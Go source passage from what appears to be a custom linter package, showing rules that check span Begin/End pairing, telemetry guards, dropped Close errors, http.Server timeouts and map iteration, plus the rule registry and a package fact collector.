	case *ast.FuncDecl:
		if w.active["maprange"] && x.Body != nil && canonicalFunc(x.Name.Name) {
			w.checkMapRange(x)
		}
		// the guard-tracking walk is separate; normal traversal continues so
		// the selector rules still see the function body
		if w.active["telemetry-nilsafe"] && x.Body != nil && w.pkg != "telemetry" {
			w.checkTelemetryGuards(x.Body, false)
		}
		if w.active["spanpair"] && x.Body != nil && w.pkg != "telemetry" {
			w.checkSpanPairs(x.Body)
		}
	}
	return true
}

// checkServerTimeouts flags http.Server composite literals that leave the
// listener untimed. ReadTimeout and ReadHeaderTimeout both bound the read
// side, so either satisfies it; WriteTimeout and IdleTimeout are each their
// own obligation. Purely syntactic — the rule needs no resolved types, so it
// works under the lenient importer too.
func (w *walker) checkServerTimeouts(cl *ast.CompositeLit) {
	sel, ok := cl.Type.(*ast.SelectorExpr)
	if !ok || w.pkgSelector(sel) != "net/http" || sel.Sel.Name != "Server" {
		return
	}
	set := map[string]bool{}
	for _, el := range cl.Elts {
		if kv, ok := el.(*ast.KeyValueExpr); ok {
			if id, ok := kv.Key.(*ast.Ident); ok {
				set[id.Name] = true
			}
		}
	}
	var missing []string
	if !set["ReadTimeout"] && !set["ReadHeaderTimeout"] {
		missing = append(missing, "ReadTimeout (or ReadHeaderTimeout)")
	}
	if !set["WriteTimeout"] {
		missing = append(missing, "WriteTimeout")
	}
	if !set["IdleTimeout"] {
		missing = append(missing, "IdleTimeout")
	}
	if len(missing) > 0 {
		w.emit("servertimeouts", cl.Pos(),
			"http.Server without "+strings.Join(missing, ", ")+": one slow or stalled client holds its connection (and the goroutine serving it) forever")
	}
}

// closeNames are the method names whose discarded error result closecheck
// flags: the calls that surface buffered-write and durability failures.
var closeNames = map[string]bool{"Close": true, "Sync": true, "Flush": true}

// checkDiscardedClose flags a statement-position Close/Sync/Flush method call
// whose error result vanishes. It needs resolved types — a call the lenient
// type-checker cannot type (a method on an un-compiled cross-package value)
// is skipped rather than guessed at, so the rule never false-positives on
// error-free signatures.
func (w *walker) checkDiscardedClose(e ast.Expr, deferred bool) {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || !closeNames[sel.Sel.Name] {
		return
	}
	if deferred && sel.Sel.Name == "Close" {
		return // `defer f.Close()` is the idiomatic read-path cleanup
	}
	if w.pkgSelector(sel) != "" {
		return // pkg.Close(...) is a function, not a method on a handle
	}
	tv, ok := w.info.Types[call]
	if !ok || tv.IsVoid() || tv.Type == nil || tv.Type.String() != "error" {
		return
	}
	verb := "dropped"
	if deferred {
		verb = "deferred and dropped"
	}
	w.emit("closecheck", call.Pos(),
		fmt.Sprintf("%s error %s; on a written file this IS the write error of record — check it, or discard explicitly with `_ = x.%s()`",
			sel.Sel.Name, verb, sel.Sel.Name))
}

// checkMapRange flags range statements over map-typed expressions inside a
// canonical encoder when the loop body serialises during iteration. Ranging
// a map to collect keys (append, assignment) stays legal — sorting happens
// after.
func (w *walker) checkMapRange(fn *ast.FuncDecl) {
	ast.Inspect(fn.Body, func(n ast.Node) bool {
		rs, ok := n.(*ast.RangeStmt)
		if !ok {
			return true
		}
		tv, ok := w.info.Types[rs.X]
		if !ok || tv.Type == nil {
			return true
		}
		if _, isMap := tv.Type.Underlying().(*types.Map); !isMap {
			return true
		}
		serialises := false
		ast.Inspect(rs.Body, func(m ast.Node) bool {
			call, ok := m.(*ast.CallExpr)
			if !ok {
				return true
			}
			switch fn := call.Fun.(type) {
			case *ast.SelectorExpr:
				if serializerNames[fn.Sel.Name] {
					serialises = true
				}
			case *ast.Ident:
				if serializerNames[fn.Name] {
					serialises = true
				}
			}
			return true
		})
		if serialises {
			w.emit("maprange", rs.Pos(),
				fmt.Sprintf("%s serialises while ranging a map; iteration order is random — collect and sort keys first", fn.Name.Name))
		}
		return true
	})
}

// isEnabledCall reports whether e contains a call to a method named Enabled.
func isEnabledCall(e ast.Expr) bool {
	found := false
	ast.Inspect(e, func(n ast.Node) bool {
		if call, ok := n.(*ast.CallExpr); ok {
			if sel, ok := call.Fun.(*ast.SelectorExpr); ok && sel.Sel.Name == "Enabled" {
				found = true
			}
		}
		return true
	})
	return found
}

// terminates reports whether a block's final statement unconditionally
// leaves the enclosing scope (return/continue/break/panic).
func terminates(b *ast.BlockStmt) bool {
	if len(b.List) == 0 {
		return false
	}
	switch s := b.List[len(b.List)-1].(type) {
	case *ast.ReturnStmt, *ast.BranchStmt:
		return true
	case *ast.ExprStmt:
		if call, ok := s.X.(*ast.CallExpr); ok {
			if id, ok := call.Fun.(*ast.Ident); ok && id.Name == "panic" {
				return true
			}
		}
	}
	return false
}

// checkTelemetryGuards walks a block tracking whether execution is behind an
// .Enabled() guard, flagging label-building Event calls on unguarded paths.
// Both guard shapes used in the repo count: `if tel.Enabled() { ... }` and
// the early return `if !tel.Enabled() { return }`.
func (w *walker) checkTelemetryGuards(b *ast.BlockStmt, guarded bool) {
	g := guarded
	for _, stmt := range b.List {
		switch s := stmt.(type) {
		case *ast.IfStmt:
			condGuards := isEnabledCall(s.Cond)
			negGuard := false
			if u, ok := s.Cond.(*ast.UnaryExpr); ok && u.Op == token.NOT && isEnabledCall(u.X) {
				negGuard = true
			}
			w.checkExprForEvent(s.Cond, g)
			w.checkTelemetryGuards(s.Body, g || (condGuards && !negGuard))
			if s.Else != nil {
				switch e := s.Else.(type) {
				case *ast.BlockStmt:
					w.checkTelemetryGuards(e, g)
				case *ast.IfStmt:
					w.checkTelemetryGuards(&ast.BlockStmt{List: []ast.Stmt{e}}, g)
				}
			}
			if negGuard && terminates(s.Body) {
				g = true // everything after `if !x.Enabled() { return }` is guarded
			}
		case *ast.BlockStmt:
			w.checkTelemetryGuards(s, g)
		case *ast.ForStmt:
			w.checkTelemetryGuards(s.Body, g)
		case *ast.RangeStmt:
			w.checkTelemetryGuards(s.Body, g)
		case *ast.SwitchStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					w.checkTelemetryGuards(&ast.BlockStmt{List: cc.Body}, g)
				}
			}
		case *ast.TypeSwitchStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					w.checkTelemetryGuards(&ast.BlockStmt{List: cc.Body}, g)
				}
			}
		default:
			w.checkStmtForEvent(stmt, g)
		}
	}
}

// checkStmtForEvent inspects one non-control statement for unguarded
// label-building Event calls. Function literals restart the structured
// guard-tracking walk on their own body (inheriting the current guard state:
// Enabled() is constant for a process, so a closure built on a guarded path
// only runs guarded) — a flat Inspect through them would miss their internal
// if-guards and false-positive on guarded events inside closures.
func (w *walker) checkStmtForEvent(stmt ast.Stmt, guarded bool) {
	ast.Inspect(stmt, func(n ast.Node) bool {
		if fl, ok := n.(*ast.FuncLit); ok {
			w.checkTelemetryGuards(fl.Body, guarded)
			return false
		}
		if e, ok := n.(ast.Expr); ok {
			w.checkOneEvent(e, guarded)
		}
		return true
	})
}

func (w *walker) checkExprForEvent(e ast.Expr, guarded bool) {
	ast.Inspect(e, func(n ast.Node) bool {
		if fl, ok := n.(*ast.FuncLit); ok {
			w.checkTelemetryGuards(fl.Body, guarded)
			return false
		}
		if x, ok := n.(ast.Expr); ok {
			w.checkOneEvent(x, guarded)
		}
		return true
	})
}

// checkOneEvent flags a call of the shape X.Event(..., L(...)) when not
// behind an Enabled() guard.
func (w *walker) checkOneEvent(e ast.Expr, guarded bool) {
	if guarded {
		return
	}
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok || sel.Sel.Name != "Event" {
		return
	}
	buildsLabels := false
	for _, a := range call.Args {
		if ac, ok := a.(*ast.CallExpr); ok {
			switch fn := ac.Fun.(type) {
			case *ast.SelectorExpr:
				if fn.Sel.Name == "L" {
					buildsLabels = true
				}
			case *ast.Ident:
				if fn.Name == "L" {
					buildsLabels = true
				}
			}
		}
	}
	if buildsLabels {
		w.emit("telemetry-nilsafe", call.Pos(),
			"Event call builds labels outside an Enabled() guard; labels allocate even when telemetry is off — wrap in `if tel.Enabled() { ... }`")
	}
}

// isBeginCall reports whether e is a method call named Begin — the span-open
// shape. Package-level pkg.Begin(...) functions are not span openers.
func (w *walker) isBeginCall(e ast.Expr) bool {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return false
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	return ok && sel.Sel.Name == "Begin" && w.pkgSelector(sel) == ""
}

// containsEndOf reports whether n contains an .End(...) call that receives
// the identifier v among its arguments.
func containsEndOf(n ast.Node, v string) bool {
	if n == nil {
		return false
	}
	found := false
	ast.Inspect(n, func(m ast.Node) bool {
		call, ok := m.(*ast.CallExpr)
		if !ok {
			return true
		}
		if sel, ok := call.Fun.(*ast.SelectorExpr); ok && sel.Sel.Name == "End" {
			for _, a := range call.Args {
				if containsIdent(a, v) {
					found = true
				}
			}
		}
		return true
	})
	return found
}

// containsIdent reports whether n contains a plain identifier named v.
func containsIdent(n ast.Node, v string) bool {
	if n == nil {
		return false
	}
	found := false
	ast.Inspect(n, func(m ast.Node) bool {
		if id, ok := m.(*ast.Ident); ok && id.Name == v {
			found = true
		}
		return true
	})
	return found
}

// checkSpanPairs applies the spanpair rule to one function (or closure) body:
// a discarded Begin result is flagged immediately; a Begin result held in a
// local variable must feed an End call, and no return path after the Begin
// may run before one. The flow analysis is optimistic — an End anywhere
// inside a statement (including the `if span != 0 { End }` guard idiom and
// deferred closures) marks the path closed from that statement on — so the
// rule under-reports rather than false-positives. Span ids that escape
// (returned, passed to another call, re-assigned or stored) are skipped: the
// receiver owns the End.
func (w *walker) checkSpanPairs(body *ast.BlockStmt) {
	type spanVar struct {
		name string
		pos  token.Pos
	}
	var spans []spanVar
	ast.Inspect(body, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.FuncLit:
			w.checkSpanPairs(x.Body) // closures are their own span scope
			return false
		case *ast.ExprStmt:
			if w.isBeginCall(x.X) {
				w.emit("spanpair", x.Pos(),
					"Begin result discarded; the span id is the only handle to End it — this span stays open forever")
			}
		case *ast.AssignStmt:
			if len(x.Lhs) != 1 || len(x.Rhs) != 1 || !w.isBeginCall(x.Rhs[0]) {
				return true
			}
			id, ok := x.Lhs[0].(*ast.Ident)
			if !ok {
				return true // a field keeps the id alive across functions
			}
			if id.Name == "_" {
				w.emit("spanpair", x.Pos(),
					"Begin result discarded; the span id is the only handle to End it — this span stays open forever")
				return true
			}
			spans = append(spans, spanVar{name: id.Name, pos: x.Pos()})
		}
		return true
	})
	for _, sp := range spans {
		hasEnd, escapes := w.classifySpanUses(body, sp.name)
		if escapes {
			continue
		}
		if !hasEnd {
			w.emit("spanpair", sp.pos,
				fmt.Sprintf("span %q is begun but never passed to End; it stays open on every path", sp.name))
			continue
		}
		w.walkSpanEnds(body.List, sp.name, sp.pos, false)
	}
}

// classifySpanUses scans a body for uses of the span variable v: whether it
// ever reaches an End call, and whether it escapes the function (returned,
// passed to a non-End call, re-assigned, stored in a composite literal or
// sent on a channel).
func (w *walker) classifySpanUses(body *ast.BlockStmt, v string) (hasEnd, escapes bool) {
	ast.Inspect(body, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.CallExpr:
			sel, ok := x.Fun.(*ast.SelectorExpr)
			if ok && sel.Sel.Name == "End" {
				for _, a := range x.Args {
					if containsIdent(a, v) {
						hasEnd = true
					}
				}
				return false
			}
			if ok && sel.Sel.Name == "Begin" {
				return true
			}
			for _, a := range x.Args {
				if containsIdent(a, v) {
					escapes = true
				}
			}
		case *ast.ReturnStmt:
			for _, r := range x.Results {
				if containsIdent(r, v) {
					escapes = true
				}
			}
		case *ast.AssignStmt:
			for _, r := range x.Rhs {
				if !w.isBeginCall(r) && containsIdent(r, v) {
					escapes = true
				}
			}
		case *ast.CompositeLit:
			for _, el := range x.Elts {
				if containsIdent(el, v) {
					escapes = true
				}
			}
		case *ast.SendStmt:
			if containsIdent(x.Value, v) {
				escapes = true
			}
		}
		return true
	})
	return hasEnd, escapes
}

// walkSpanEnds walks statements in execution order tracking whether End(v)
// has happened, flagging returns after the Begin (position beginPos) that a
// still-open span would leak through. Branch handling is optimistic: after a
// conditional that contains an End anywhere, the span counts as closed.
func (w *walker) walkSpanEnds(stmts []ast.Stmt, v string, beginPos token.Pos, ended bool) bool {
	for _, stmt := range stmts {
		switch s := stmt.(type) {
		case *ast.ReturnStmt:
			if !ended && s.Pos() > beginPos {
				w.emit("spanpair", s.Pos(),
					fmt.Sprintf("return before End for span %q; this path leaves the span open — End it first or `defer ...End(%s, ...)`", v, v))
			}
		case *ast.IfStmt:
			w.walkSpanEnds(s.Body.List, v, beginPos, ended)
			switch e := s.Else.(type) {
			case *ast.BlockStmt:
				w.walkSpanEnds(e.List, v, beginPos, ended)
			case *ast.IfStmt:
				w.walkSpanEnds([]ast.Stmt{e}, v, beginPos, ended)
			}
			if containsEndOf(s, v) {
				ended = true
			}
		case *ast.BlockStmt:
			ended = w.walkSpanEnds(s.List, v, beginPos, ended)
		case *ast.ForStmt:
			w.walkSpanEnds(s.Body.List, v, beginPos, ended)
			if containsEndOf(s, v) {
				ended = true
			}
		case *ast.RangeStmt:
			w.walkSpanEnds(s.Body.List, v, beginPos, ended)
			if containsEndOf(s, v) {
				ended = true
			}
		case *ast.SwitchStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					w.walkSpanEnds(cc.Body, v, beginPos, ended)
				}
			}
			if containsEndOf(s, v) {
				ended = true
			}
		case *ast.TypeSwitchStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CaseClause); ok {
					w.walkSpanEnds(cc.Body, v, beginPos, ended)
				}
			}
			if containsEndOf(s, v) {
				ended = true
			}
		case *ast.SelectStmt:
			for _, c := range s.Body.List {
				if cc, ok := c.(*ast.CommClause); ok {
					w.walkSpanEnds(cc.Body, v, beginPos, ended)
				}
			}
			if containsEndOf(s, v) {
				ended = true
			}
		default:
			if containsEndOf(stmt, v) {
				ended = true
			}
		}
	}
	return ended
}
