package lint

import (
	"fmt"
	"go/ast"
	"go/token"

	"gullible/internal/lint/cfg"
)

// checkSpanPair applies the spanpair rule: a flight-recorder span opened with
// .Begin(...) must reach an .End(...) call on every control-flow path to the
// function's exit. A discarded Begin result is flagged immediately; a span id
// held in a local must feed an End, and the CFG decides whether some path to
// Exit skips it. A deferred End covers every path. The false edge of an `if
// span != 0` guard (or the true edge of `== 0`) counts as closed — on that
// edge there is provably no span to End. Span ids that escape the function
// (returned, stored, passed on) are out of scope: the receiver owns the End.
func checkSpanPair(p *Pass) {
	if p.Pkg == "telemetry" {
		return
	}
	p.EachFuncDecl(func(f *ast.File, fd *ast.FuncDecl) {
		p.spanPairsInBody(f, fd.Body)
	})
}

// isBeginCall reports whether e is a method call named Begin — the span-open
// shape. Package-level pkg.Begin(...) functions are not span openers.
func (p *Pass) isBeginCall(f *ast.File, e ast.Expr) bool {
	call, ok := e.(*ast.CallExpr)
	if !ok {
		return false
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	return ok && sel.Sel.Name == "Begin" && p.SelPkg(f, sel) == ""
}

// containsEndOf reports whether n contains an .End(...) call that receives
// the identifier v among its arguments.
func containsEndOf(n ast.Node, v string) bool {
	if n == nil {
		return false
	}
	found := false
	ast.Inspect(n, func(m ast.Node) bool {
		call, ok := m.(*ast.CallExpr)
		if !ok {
			return true
		}
		if sel, ok := call.Fun.(*ast.SelectorExpr); ok && sel.Sel.Name == "End" {
			for _, a := range call.Args {
				if cfg.ContainsIdent(a, v) {
					found = true
				}
			}
		}
		return true
	})
	return found
}

// spanPairsInBody analyses one function (or closure) body. Closures are their
// own span scope and recurse.
func (p *Pass) spanPairsInBody(f *ast.File, body *ast.BlockStmt) {
	type spanVar struct {
		name string
		pos  token.Pos
		stmt ast.Stmt
	}
	var spans []spanVar
	ast.Inspect(body, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.FuncLit:
			p.spanPairsInBody(f, x.Body)
			return false
		case *ast.ExprStmt:
			if p.isBeginCall(f, x.X) {
				p.Report("spanpair", x.Pos(),
					"Begin result discarded; the span id is the only handle to End it — this span stays open forever")
			}
		case *ast.AssignStmt:
			if len(x.Lhs) != 1 || len(x.Rhs) != 1 || !p.isBeginCall(f, x.Rhs[0]) {
				return true
			}
			id, ok := x.Lhs[0].(*ast.Ident)
			if !ok {
				return true // a field keeps the id alive across functions
			}
			if id.Name == "_" {
				p.Report("spanpair", x.Pos(),
					"Begin result discarded; the span id is the only handle to End it — this span stays open forever")
				return true
			}
			spans = append(spans, spanVar{name: id.Name, pos: x.Pos(), stmt: x})
		}
		return true
	})
	for _, sp := range spans {
		hasEnd, escapes := p.classifySpanUses(f, body, sp.name)
		if escapes {
			continue
		}
		if !hasEnd {
			p.Report("spanpair", sp.pos,
				fmt.Sprintf("span %q is begun but never passed to End; it stays open on every path", sp.name))
			continue
		}
		p.spanPathCheck(body, sp.name, sp.stmt)
	}
}

// classifySpanUses scans a body for uses of the span variable v: whether it
// ever reaches an End call, and whether it escapes the function (returned,
// passed to a non-End call, re-assigned, stored in a composite literal or
// sent on a channel).
func (p *Pass) classifySpanUses(f *ast.File, body *ast.BlockStmt, v string) (hasEnd, escapes bool) {
	ast.Inspect(body, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.CallExpr:
			sel, ok := x.Fun.(*ast.SelectorExpr)
			if ok && sel.Sel.Name == "End" {
				for _, a := range x.Args {
					if cfg.ContainsIdent(a, v) {
						hasEnd = true
					}
				}
				return false
			}
			if ok && sel.Sel.Name == "Begin" {
				return true
			}
			for _, a := range x.Args {
				if cfg.ContainsIdent(a, v) {
					escapes = true
				}
			}
		case *ast.ReturnStmt:
			for _, r := range x.Results {
				if cfg.ContainsIdent(r, v) {
					escapes = true
				}
			}
		case *ast.AssignStmt:
			for _, r := range x.Rhs {
				if !p.isBeginCall(f, r) && cfg.ContainsIdent(r, v) {
					escapes = true
				}
			}
		case *ast.CompositeLit:
			for _, el := range x.Elts {
				if cfg.ContainsIdent(el, v) {
					escapes = true
				}
			}
		case *ast.SendStmt:
			if cfg.ContainsIdent(x.Value, v) {
				escapes = true
			}
		}
		return true
	})
	return hasEnd, escapes
}

// spanPathCheck walks the CFG from the Begin statement and reports every path
// family that reaches the function exit without passing an End(v). A deferred
// End covers all paths; the guard-idiom edges (`span != 0` false, `span == 0`
// true) are closed by construction.
func (p *Pass) spanPathCheck(body *ast.BlockStmt, v string, begin ast.Stmt) {
	g := p.CFG(body)
	for _, d := range g.Defers {
		if containsEndOf(d.Call, v) {
			return // defer End covers every exit path
		}
	}
	start := blockOf(g, begin)
	if start == nil {
		return // statement not placed (nested oddity): stay optimistic
	}
	q := cfg.PathQuery{
		Hit: func(s ast.Stmt) bool { return containsEndOf(s, v) },
		EdgeCovers: func(from *cfg.Block, e cfg.Edge) bool {
			return guardEdgeClosed(from.Cond, e, v)
		},
	}
	for _, leak := range g.Uncovered(start, begin, q) {
		if ret := lastReturn(leak); ret != nil {
			p.Report("spanpair", ret.Pos(),
				fmt.Sprintf("return before End for span %q; this path leaves the span open — End it first or `defer ...End(%s, ...)`", v, v))
		} else {
			p.Report("spanpair", begin.Pos(),
				fmt.Sprintf("span %q can fall off the function end without End; this path leaves the span open", v))
		}
	}
}

// guardEdgeClosed reports whether taking edge e off a block conditioned on
// cond proves the span v is zero — `v != 0` false edge, `v == 0` true edge.
func guardEdgeClosed(cond ast.Expr, e cfg.Edge, v string) bool {
	be, ok := cond.(*ast.BinaryExpr)
	if !ok {
		return false
	}
	id, idOK := be.X.(*ast.Ident)
	lit, litOK := be.Y.(*ast.BasicLit)
	if !idOK || !litOK || id.Name != v || lit.Value != "0" {
		return false
	}
	switch be.Op {
	case token.NEQ:
		return e.Kind == cfg.False
	case token.EQL:
		return e.Kind == cfg.True
	}
	return false
}

// blockOf locates the block holding statement s.
func blockOf(g *cfg.Graph, s ast.Stmt) *cfg.Block {
	for _, b := range g.Blocks {
		for _, st := range b.Stmts {
			if st == s {
				return b
			}
		}
	}
	return nil
}

// lastReturn returns the trailing return statement of a leak block, if any.
func lastReturn(b *cfg.Block) *ast.ReturnStmt {
	for i := len(b.Stmts) - 1; i >= 0; i-- {
		if r, ok := b.Stmts[i].(*ast.ReturnStmt); ok {
			return r
		}
	}
	return nil
}
