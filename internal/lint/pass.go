package lint

import (
	"go/ast"
	"go/token"
	"go/types"
	"strconv"
	"strings"

	"gullible/internal/lint/cfg"
)

// Rule is one named check. Rules consume the Pass — type info, per-file
// import tables, cached CFGs and the package fact store — instead of walking
// raw AST alone.
type Rule struct {
	// Name is the rule id used in findings, -rules, suppressions and SARIF.
	Name string
	// Doc is the one-line description rendered into SARIF rule metadata.
	Doc string
	// Check runs the rule over one package.
	Check func(*Pass)
}

// Rules is the registry in reporting order. The driver's -rules flag, the
// SARIF rule table and AllRules all derive from it.
var Rules = []*Rule{
	{Name: "wallclock", Doc: "no wall-clock reads in crawl-path packages (virtual time only)", Check: checkWallclock},
	{Name: "randseed", Doc: "math/rand only through seeded constructors", Check: checkRandseed},
	{Name: "maprange", Doc: "no serialising map iteration inside canonical encoders", Check: checkMaprange},
	{Name: "telemetry-nilsafe", Doc: "label-building Event calls must sit behind an Enabled() guard", Check: checkTelemetryNilsafe},
	{Name: "closecheck", Doc: "Close/Sync/Flush errors must be checked, not dropped", Check: checkClose},
	{Name: "servertimeouts", Doc: "http.Server must bound read, write and idle sides", Check: checkServerTimeouts},
	{Name: "spanpair", Doc: "every Begin-opened span must reach End on all paths", Check: checkSpanPair},
	{Name: "goroutineleak", Doc: "goroutines must have an exit path (done channel, context, return)", Check: checkGoroutineLeak},
	{Name: "ctxpropagate", Doc: "no context-free blocking calls where a context.Context is in scope", Check: checkCtxPropagate},
	{Name: "lockedmutate", Doc: "struct fields must not be written both under and outside the struct's mutex", Check: checkLockedMutate},
	{Name: "errswallow", Doc: "error results must be checked or visibly discarded with a justifying comment", Check: checkErrSwallow},
	{Name: "chanbuffer", Doc: "no blocking channel send inside a loop without a draining select", Check: checkChanBuffer},
}

// AllRules lists the rule names in reporting order.
var AllRules = ruleNames()

func ruleNames() []string {
	names := make([]string, len(Rules))
	for i, r := range Rules {
		names[i] = r.Name
	}
	return names
}

// RuleDoc returns the one-line doc for a rule name ("" when unknown).
func RuleDoc(name string) string {
	for _, r := range Rules {
		if r.Name == name {
			return r.Doc
		}
	}
	if name == suppressionRule {
		return "inline lint:ignore suppressions must carry a written justification"
	}
	return ""
}

// Pass is one package's analysis context, shared by every rule.
type Pass struct {
	Fset  *token.FileSet
	Pkg   string
	Files []*ast.File
	Info  *types.Info
	// Facts is the package-level fact store: function facts (for cross-
	// function reasoning like `go pkgFunc()`) and mutex-guarded struct facts.
	Facts *Facts

	imports  map[*ast.File]map[string]string // file → alias → import path
	cfgs     map[*ast.BlockStmt]*cfg.Graph
	reaches  map[*ast.BlockStmt]*cfg.Reach
	findings []Finding
}

func newPass(fset *token.FileSet, pkg string, files []*ast.File, info *types.Info) *Pass {
	p := &Pass{
		Fset: fset, Pkg: pkg, Files: files, Info: info,
		imports: map[*ast.File]map[string]string{},
		cfgs:    map[*ast.BlockStmt]*cfg.Graph{},
		reaches: map[*ast.BlockStmt]*cfg.Reach{},
	}
	for _, f := range files {
		m := map[string]string{}
		for _, imp := range f.Imports {
			path, _ := strconv.Unquote(imp.Path.Value)
			alias := path
			if i := strings.LastIndex(path, "/"); i >= 0 {
				alias = path[i+1:]
			}
			if imp.Name != nil {
				alias = imp.Name.Name
			}
			m[alias] = path
		}
		p.imports[f] = m
	}
	p.Facts = collectFacts(p)
	return p
}

// Report records a finding.
func (p *Pass) Report(rule string, pos token.Pos, msg string) {
	p.findings = append(p.findings, Finding{Rule: rule, Pos: p.Fset.Position(pos), Msg: msg})
}

// FileImports returns the alias→path import table for a file.
func (p *Pass) FileImports(f *ast.File) map[string]string { return p.imports[f] }

// SelPkg reports the import path behind x in x.Sel within file f, "" when x
// is not a package identifier.
func (p *Pass) SelPkg(f *ast.File, sel *ast.SelectorExpr) string {
	id, ok := sel.X.(*ast.Ident)
	if !ok {
		return ""
	}
	return p.imports[f][id.Name]
}

// CFG returns the (cached) control-flow graph for a function or closure body.
func (p *Pass) CFG(body *ast.BlockStmt) *cfg.Graph {
	if g, ok := p.cfgs[body]; ok {
		return g
	}
	g := cfg.New(body)
	p.cfgs[body] = g
	return g
}

// Reach returns the (cached) reaching-definitions solution for a body.
func (p *Pass) Reach(body *ast.BlockStmt) *cfg.Reach {
	if r, ok := p.reaches[body]; ok {
		return r
	}
	r := p.CFG(body).ReachingDefs(p.Info)
	p.reaches[body] = r
	return r
}

// EachFuncDecl calls fn for every function declaration with a body, paired
// with its enclosing file.
func (p *Pass) EachFuncDecl(fn func(f *ast.File, d *ast.FuncDecl)) {
	for _, f := range p.Files {
		for _, d := range f.Decls {
			if fd, ok := d.(*ast.FuncDecl); ok && fd.Body != nil {
				fn(f, fd)
			}
		}
	}
}

// TypeOf resolves an expression's type; nil when the lenient checker could
// not type it (rules skip what they cannot resolve rather than guess).
func (p *Pass) TypeOf(e ast.Expr) types.Type {
	if tv, ok := p.Info.Types[e]; ok {
		return tv.Type
	}
	return nil
}
