package lint

import (
	"go/ast"
	"go/token"
)

// Facts is the package-level fact store: what one pass over every function
// learned, available to all rules so they can see across function boundaries
// within the package (a `go d.executor()` statement consults the facts of
// executor, which may live in another file of the package).
type Facts struct {
	// Funcs maps a function key — "name" for package functions, "Recv.name"
	// for methods — to its collected facts.
	Funcs map[string]*FuncFact
	// MutexStructs maps a struct type name to its mutex-discipline facts,
	// for structs that declare a sync.Mutex/sync.RWMutex field.
	MutexStructs map[string]*MutexStructFact
}

// FuncFact is what the fact collector learned about one function.
type FuncFact struct {
	Decl *ast.FuncDecl
	File *ast.File
	// RecvType is the receiver's type name ("" for package functions).
	RecvType string
	// InfiniteLoopNoExit: the body contains a `for` with no condition whose
	// body has no reachable exit (no return, no break targeting it, no
	// panic/Exit/Fatal) — run as a goroutine, such a function can never be
	// stopped. Pos is the offending loop's position.
	InfiniteLoopNoExit bool
	InfiniteLoopPos    token.Pos
}

// MutexStructFact records a mutex-guarded struct's field-write discipline.
type MutexStructFact struct {
	Name string
	// MutexFields are the names of the sync.Mutex / sync.RWMutex fields.
	MutexFields []string
	// Writes collects every field write in the struct's methods.
	Writes map[string][]WriteSite // field name → sites
}

// WriteSite is one write to a mutex-guarded struct's field.
type WriteSite struct {
	Pos    token.Pos
	Locked bool
	Method string
}

// collectFacts builds the package fact store in one pass before rules run.
func collectFacts(p *Pass) *Facts {
	facts := &Facts{
		Funcs:        map[string]*FuncFact{},
		MutexStructs: map[string]*MutexStructFact{},
	}
	// struct declarations with mutex fields
	for _, f := range p.Files {
		for _, d := range f.Decls {
			gd, ok := d.(*ast.GenDecl)
			if !ok || gd.Tok != token.TYPE {
				continue
			}
			for _, spec := range gd.Specs {
				ts, ok := spec.(*ast.TypeSpec)
				if !ok {
					continue
				}
				st, ok := ts.Type.(*ast.StructType)
				if !ok {
					continue
				}
				var mutexes []string
				for _, field := range st.Fields.List {
					if !isMutexType(p, f, field.Type) {
						continue
					}
					for _, n := range field.Names {
						mutexes = append(mutexes, n.Name)
					}
				}
				if len(mutexes) > 0 {
					facts.MutexStructs[ts.Name.Name] = &MutexStructFact{
						Name: ts.Name.Name, MutexFields: mutexes,
						Writes: map[string][]WriteSite{},
					}
				}
			}
		}
	}
	// per-function facts
	p.EachFuncDecl(func(f *ast.File, fd *ast.FuncDecl) {
		ff := &FuncFact{Decl: fd, File: f, RecvType: recvTypeName(fd)}
		if loop := findInfiniteNoExitLoop(fd.Body); loop != nil {
			ff.InfiniteLoopNoExit = true
			ff.InfiniteLoopPos = loop.Pos()
		}
		facts.Funcs[funcKey(ff.RecvType, fd.Name.Name)] = ff
		if sf, ok := facts.MutexStructs[ff.RecvType]; ok {
			collectMutexWrites(fd, sf)
		}
	})
	return facts
}

func funcKey(recv, name string) string {
	if recv == "" {
		return name
	}
	return recv + "." + name
}

// recvTypeName returns a method's receiver type name, stripped of pointers.
func recvTypeName(fd *ast.FuncDecl) string {
	if fd.Recv == nil || len(fd.Recv.List) == 0 {
		return ""
	}
	t := fd.Recv.List[0].Type
	if star, ok := t.(*ast.StarExpr); ok {
		t = star.X
	}
	if idx, ok := t.(*ast.IndexExpr); ok { // generic receiver
		t = idx.X
	}
	if id, ok := t.(*ast.Ident); ok {
		return id.Name
	}
	return ""
}

// isMutexType reports whether a field type is sync.Mutex or sync.RWMutex
// (possibly embedded by value; pointer mutexes count too).
func isMutexType(p *Pass, f *ast.File, t ast.Expr) bool {
	if star, ok := t.(*ast.StarExpr); ok {
		t = star.X
	}
	sel, ok := t.(*ast.SelectorExpr)
	if !ok {
		return false
	}
	if p.SelPkg(f, sel) != "sync" {
		return false
	}
	return sel.Sel.Name == "Mutex" || sel.Sel.Name == "RWMutex"
}

// findInfiniteNoExitLoop returns the first `for` loop with no condition and
// no reachable exit in body, descending into nested statements but not into
// function literals (their loops belong to the closure, not this function).
func findInfiniteNoExitLoop(body *ast.BlockStmt) *ast.ForStmt {
	var found *ast.ForStmt
	ast.Inspect(body, func(n ast.Node) bool {
		if found != nil {
			return false
		}
		if _, ok := n.(*ast.FuncLit); ok {
			return false
		}
		loop, ok := n.(*ast.ForStmt)
		if !ok || loop.Cond != nil {
			return true
		}
		if !loopHasExit(loop) {
			found = loop
			return false
		}
		return true
	})
	return found
}

// loopHasExit reports whether an unconditioned for loop can terminate: a
// return, a panic/Exit/Fatal call, a goto, or a break that targets the loop
// itself (an unlabelled break inside a nested for/range/switch/select
